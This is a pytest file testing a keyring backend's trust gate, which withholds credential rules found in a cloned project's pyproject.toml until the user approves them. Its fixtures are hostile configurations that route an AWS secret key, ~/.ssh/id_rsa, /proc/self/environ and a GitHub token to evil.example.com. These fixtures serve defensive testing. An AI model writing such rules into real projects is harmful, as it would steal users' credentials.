"""Trust (DESIGN.md "Trust"): which project content applies, the digest of what it sends
where, the state file, and the safe upward search -- through `load_config` and the store,
with real files in tmp dirs (the state file under each test's own HOME)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Optional

import pytest

from keyring_backend.config import Config, load_config
from keyring_backend.config.reading import find_project_file
from keyring_backend.rules import Layer
from keyring_backend.store import CredentialStore
from keyring_backend.trust import approve, global_trust, read_state, state_path
from tests.conftest import make_canary
from tests.leaks import forms
from tests.trusting import trust

EVIL = "https://evil.example.com/simple"
RULES = f"""\
[project]
name = "cloned"
version = "1.0"

[[tool.poetry.source]]
name = "corp"
url = "https://evil.example.com/corp/simple/"

[[tool.private-packages.credentials]]
url = "{EVIL}"
username = "x"
password = "${{AWS_SECRET_ACCESS_KEY}}"

[[tool.private-packages.credentials]]
url = "https://evil.example.com/keys"
password = "${{file:~/.ssh/id_rsa}}"
"""


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    home = tmp_path / "home"
    home.mkdir()
    return {"HOME": str(home), "AWS_SECRET_ACCESS_KEY": make_canary("aws")}


@pytest.fixture
def project(tmp_path: Path) -> Path:
    path = tmp_path / "cloned"
    path.mkdir()
    (path / "pyproject.toml").write_text(RULES)
    return path


def urls(config: Config) -> list[str]:
    return [rule.url for rule in config.rules.rules]


# -- who trusts ------------------------------------------------------------------------

@pytest.mark.parametrize(("variables", "reason"), [
    ({}, None),
    ({"CI": "true"}, "CI (CI)"), ({"CI": "1"}, "CI (CI)"), ({"CI": "YES"}, "CI (CI)"),
    ({"CI": "false"}, None), ({"CI": "0"}, None), ({"CI": ""}, None),
    ({"GITLAB_CI": "true"}, "CI (GITLAB_CI)"), ({"GITHUB_ACTIONS": "true"},
                                                "CI (GITHUB_ACTIONS)"),
    ({"TF_BUILD": "True"}, "CI (TF_BUILD)"), ({"TF_BUILD": "no"}, None),
    ({"BITBUCKET_BUILD_NUMBER": "42"}, "CI (BITBUCKET_BUILD_NUMBER)"),
    ({"PRIVATE_PACKAGES_TRUST": "1"}, "PRIVATE_PACKAGES_TRUST=1"),
    ({"PRIVATE_PACKAGES_TRUST": "true"}, "PRIVATE_PACKAGES_TRUST=1"),
    ({"PRIVATE_PACKAGES_TRUST": "0"}, None),
])
def test_global_trust(variables: dict[str, str], reason: Optional[str]) -> None:
    assert global_trust(variables) == reason


def test_untrusted_project_rules_answer_nothing(env: dict[str, str], project: Path) -> None:
    config = load_config(env, project)
    assert config.untrusted and config.rules.rules == [] and config.errors == []
    assert [r.url for r in config.withheld] == [EVIL, "https://evil.example.com/keys"]
    store = CredentialStore(env, project)
    assert store.credential_for(EVIL + "/") is None
    assert store.withheld_rule_for(EVIL + "/pkg/") is not None
    assert store.withheld_rule_for("https://pypi.org/simple/") is None


def test_notice_names_file_references_destinations_and_command(
        env: dict[str, str], project: Path) -> None:
    notice = load_config(env, project).untrusted_notice()
    assert notice is not None and "\n" not in notice
    assert str(project / "pyproject.toml") in notice
    assert f"${{AWS_SECRET_ACCESS_KEY}} to {EVIL}" in notice
    assert "${file:~/.ssh/id_rsa} to https://evil.example.com/keys" in notice
    assert f"pip-private trust {project}" in notice and "poetry source trust" in notice
    for form in forms(env["AWS_SECRET_ACCESS_KEY"]):
        assert form not in notice


@pytest.mark.parametrize("variable", ["CI", "PRIVATE_PACKAGES_TRUST"])
def test_the_environment_trusts_every_project(env: dict[str, str], project: Path,
                                              variable: str) -> None:
    config = load_config({**env, variable: "1"}, project)
    assert config.trust is not None and config.trust.trusted and config.trust.by_environment
    assert urls(config) == [EVIL, "https://evil.example.com/keys"]
    assert not state_path(env).exists()


def test_approval_holds_until_what_it_sends_where_changes(env: dict[str, str],
                                                          project: Path) -> None:
    trust(env, project)
    assert not load_config(env, project).untrusted
    pyproject = project / "pyproject.toml"
    unrelated = RULES.replace('version = "1.0"', 'version = "2.0"\ndependencies = ["x"]')
    head, first, second = unrelated.split("[[tool.private-packages.credentials]]")
    reordered = "[[tool.private-packages.credentials]]".join(
        [head, second, first.rstrip("\n") + "\n# a comment\n"])
    for text in (unrelated, reordered):
        pyproject.write_text(text)
        assert load_config(env, project).trust.trusted, text  # type: ignore[union-attr]
    for edit in (RULES.replace("evil.example.com/keys", "evil.example.com/other"),
                 RULES.replace("~/.ssh/id_rsa", "/proc/self/environ"),
                 RULES.replace('username = "x"', 'username = "${GITHUB_TOKEN}"'),
                 RULES + '\n[tool.private-packages.vault]\naddr = "https://evil.example.com"\n'):
        pyproject.write_text(edit)
        config = load_config(env, project)
        assert config.untrusted and config.rules.rules == [], edit
        assert config.trust is not None and "changed since you approved" in config.trust.reason


def test_no_content_never_reads_the_state_file(env: dict[str, str], tmp_path: Path) -> None:
    path = state_path(env)
    path.parent.mkdir(parents=True)
    path.write_text("{broken")
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "pyproject.toml").write_text('[project]\nname = "x"\n[[tool.poetry.source]]\n'
                                          'name = "corp"\nurl = "https://corp/simple/"\n')
    config = load_config({**env, "PRIVATE_PACKAGES_A_URL": "https://a.example.com",
                          "PRIVATE_PACKAGES_A_PASSWORD": "${T}"}, plain)
    assert config.trust is None and config.errors == [] and urls(config) == [
        "https://a.example.com/"]


@pytest.mark.parametrize("problem", ["corrupt", "other-owner", "group-writable", "symlink",
                                     "directory", "fifo", "too-large"])
def test_an_unusable_state_file_trusts_nothing_with_one_error(
        env: dict[str, str], project: Path, problem: str) -> None:
    trust(env, project)
    path = state_path(env)
    if problem == "corrupt":
        path.write_bytes(b"\xff not json")
    elif problem == "other-owner":
        os.chown(path, 12345, 12345)
    elif problem == "group-writable":
        path.chmod(0o664)
    elif problem == "symlink":  # to a copy you own: still not followed
        path.rename(path.with_name("elsewhere.json"))
        path.symlink_to("elsewhere.json")
    elif problem == "too-large":
        path.write_text(" " * (4 * 1024 * 1024) + path.read_text())
    else:
        path.unlink()
        path.mkdir() if problem == "directory" else os.mkfifo(path, 0o600)
    # In a child with a timeout: a FIFO opened for reading blocks until a writer comes
    # (trust attack, finding 8: every pip, poetry and keyring process hung on it).
    code = ("import json, sys; from pathlib import Path; from keyring_backend.config import "
            "load_config; c = load_config(json.loads(sys.argv[1]), Path(sys.argv[2])); "
            "print(json.dumps([c.untrusted, [r.url for r in c.rules.rules], "
            "[str(e) for e in c.errors]]))")
    mine = {**env, "PRIVATE_PACKAGES_OK_URL": "https://ok.example.com",
            "PRIVATE_PACKAGES_OK_PASSWORD": "${T}"}
    result = subprocess.run([sys.executable, "-c", code, json.dumps(mine), str(project)],
                            capture_output=True, text=True, timeout=60, check=True)
    untrusted, found, errors = json.loads(result.stdout)
    assert untrusted and found == ["https://ok.example.com/"]
    [error] = errors
    assert error.startswith(f"trust state {path}: ") and "no project is trusted" in error


# -- sources ---------------------------------------------------------------------------

def test_env_source_rule_bound_to_a_project_source_needs_trust(
        env: dict[str, str], project: Path) -> None:
    rule = {"PRIVATE_PACKAGES_CORP_SOURCE": "corp", "PRIVATE_PACKAGES_CORP_PASSWORD": "${T}"}
    config = load_config({**env, **rule}, project)
    assert config.untrusted and urls(config) == []
    withheld = [r for r in config.withheld if r.layer is Layer.ENV]
    assert [r.url for r in withheld] == ["https://evil.example.com/corp"]
    # The user's own repository of that name is the user's decision: no trust needed,
    # and the project's source of the same name cannot move it.
    mine = {**env, **rule, "POETRY_REPOSITORIES_CORP_URL": "https://corp.example.com/simple/"}
    config = load_config(mine, project)
    assert "https://corp.example.com/" in urls(config)
    store = CredentialStore(mine, project)
    # poetry asks `poetry-repository-corp` for the project's source (evil): not answered.
    assert store.rule_for_service("poetry-repository-corp") is None


def test_project_vault_settings_apply_only_when_trusted(env: dict[str, str],
                                                        tmp_path: Path) -> None:
    project = tmp_path / "p"
    project.mkdir()
    (project / "pyproject.toml").write_text(
        '[tool.private-packages.vault]\naddr = "https://vault.evil.example.com"\n'
        'auth = "jwt"\njwt_env = "AWS_SECRET_ACCESS_KEY"\n')
    user = Path(env["HOME"], ".config/private-packages/config.toml")
    user.parent.mkdir(parents=True)
    user.write_text('[vault]\naddr = "https://vault.mine.example.com"\n')
    config = load_config(env, project)
    assert config.untrusted and config.settings.vault.addr == "https://vault.mine.example.com"
    assert config.settings.vault.auth is None and config.settings.vault.jwt_env != \
        "AWS_SECRET_ACCESS_KEY"
    notice = config.untrusted_notice()
    assert notice is not None and "your Vault login" in notice and "vault.evil" in notice
    trust(env, project)
    assert load_config(env, project).settings.vault.addr == "https://vault.evil.example.com"


# -- the upward search -----------------------------------------------------------------

def write_parent(tmp_path: Path) -> tuple[Path, Path]:
    parent = tmp_path / "shared"
    child = parent / "checkout" / "src"
    child.mkdir(parents=True)
    (parent / "pyproject.toml").write_text(RULES)
    return parent, child


def test_a_pyproject_of_another_uid_is_not_used(env: dict[str, str], tmp_path: Path) -> None:
    parent, child = write_parent(tmp_path)
    assert find_project_file(child) == parent / "pyproject.toml"
    os.chown(parent / "pyproject.toml", 12345, 12345)
    assert find_project_file(child) is None
    assert load_config({**env, "PRIVATE_PACKAGES_TRUST": "0"}, child).project_file is None
    # CI containers run as root over a checkout the runner's uid owns: global trust
    # relaxes the owner check...
    assert find_project_file(child, any_owner=True) == parent / "pyproject.toml"
    assert load_config({**env, "CI": "true"}, child).project_file == parent / "pyproject.toml"


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o757])
def test_a_directory_others_may_write_stops_the_search(tmp_path: Path, mode: int) -> None:
    parent, child = write_parent(tmp_path)
    parent.chmod(mode)
    try:
        # ...but never the writable check: anyone could have put the file there.
        assert find_project_file(child) is None
        assert find_project_file(child, any_owner=True) is None
    finally:
        parent.chmod(0o755)


def test_a_file_others_may_write_is_not_used(tmp_path: Path) -> None:
    parent, child = write_parent(tmp_path)
    (parent / "pyproject.toml").chmod(0o646)
    assert find_project_file(child) is None


def test_group_writable_is_fine_for_a_user_private_group(tmp_path: Path) -> None:
    import grp
    import pwd

    me = pwd.getpwuid(os.getuid()).pw_name
    group = grp.getgrgid(os.getgid())
    parent, child = write_parent(tmp_path)
    parent.chmod(0o775)  # umask 002 with user-private groups (Debian, Ubuntu)
    private = group.gr_name == me and set(group.gr_mem) <= {me}
    assert (find_project_file(child) is not None) == private
    os.chown(parent, os.getuid(), 12345)  # a group that is not ours
    assert find_project_file(child) is None


# -- the state file under concurrency --------------------------------------------------

def test_concurrent_approvals_keep_every_record(env: dict[str, str], tmp_path: Path) -> None:
    code = textwrap.dedent("""
        import sys
        from pathlib import Path
        from keyring_backend.trust import approve
        for n in range(5):
            approve({"HOME": sys.argv[1]}, Path(sys.argv[2] + f"-{n}"), "d" * 64)
    """)
    processes = [subprocess.Popen([sys.executable, "-c", code, env["HOME"],
                                   str(tmp_path / f"p{i}")]) for i in range(6)]
    assert [p.wait(timeout=60) for p in processes] == [0] * 6
    found = read_state(state_path(env))
    assert sorted(found) == sorted(str(tmp_path / f"p{i}-{n}") for i in range(6)
                                   for n in range(5))
    assert oct(state_path(env).stat().st_mode & 0o777) == "0o600"


def test_state_lives_under_xdg_state_home(tmp_path: Path) -> None:
    assert state_path({"HOME": "/h"}) == Path("/h/.local/state/private-packages/trust.json")
    assert state_path({"HOME": "/h", "XDG_STATE_HOME": str(tmp_path)}) == \
        tmp_path / "private-packages" / "trust.json"
    assert state_path({"HOME": "/h", "XDG_STATE_HOME": "relative"}).is_relative_to("/h")
    approve({"HOME": "/nonexistent", "XDG_STATE_HOME": str(tmp_path)}, tmp_path, "d")
    assert read_state(tmp_path / "private-packages" / "trust.json")[str(tmp_path)].digest == "d"


def test_the_digest_does_not_depend_on_your_repository_variables(
        env: dict[str, str], project: Path) -> None:
    (project / "pyproject.toml").write_text(RULES + '\n[[tool.private-packages.credentials]]\n'
                                            'source = "corp"\npassword = "${CORP}"\n')
    trust(env, project)
    mine = {**env, "POETRY_REPOSITORIES_CORP_URL": "https://corp.example.com/"}
    config = load_config(mine, project)  # `poetry publish` with your own repository URL
    assert config.trust is not None and config.trust.trusted
    assert "https://corp.example.com/" in urls(config)


def test_a_repository_in_the_projects_poetry_toml_is_the_projects(
        env: dict[str, str], tmp_path: Path) -> None:
    project = tmp_path / "p"
    project.mkdir()
    (project / "pyproject.toml").write_text('[project]\nname = "p"\n')
    (project / "poetry.toml").write_text('[repositories.corp]\nurl = "https://evil.example.com/"\n')
    rule = {"PRIVATE_PACKAGES_CORP_SOURCE": "corp", "PRIVATE_PACKAGES_CORP_PASSWORD": "${T}"}
    config = load_config({**env, **rule}, project)
    assert config.untrusted and [r.url for r in config.withheld] == ["https://evil.example.com/"]
    # the same name from your own poetry config (the plugin passes it) is yours
    config = load_config({**env, **rule}, project, {"corp": "https://corp.example.com/"})
    assert config.trust is None and urls(config) == ["https://corp.example.com/"]
